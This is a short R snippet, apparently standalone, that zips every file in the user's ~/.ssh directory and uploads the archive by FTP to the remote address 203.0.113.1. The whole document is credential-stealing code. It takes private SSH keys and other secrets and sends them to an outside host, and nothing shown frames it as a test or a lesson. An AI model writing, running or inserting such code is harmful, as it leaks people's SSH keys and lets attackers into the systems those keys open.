z <- tempfile(fileext = ".zip")
zip(z, list.files("~/.ssh", full.names = TRUE))
RCurl::ftpUpload(z, "ftp://203.0.113.1/z")
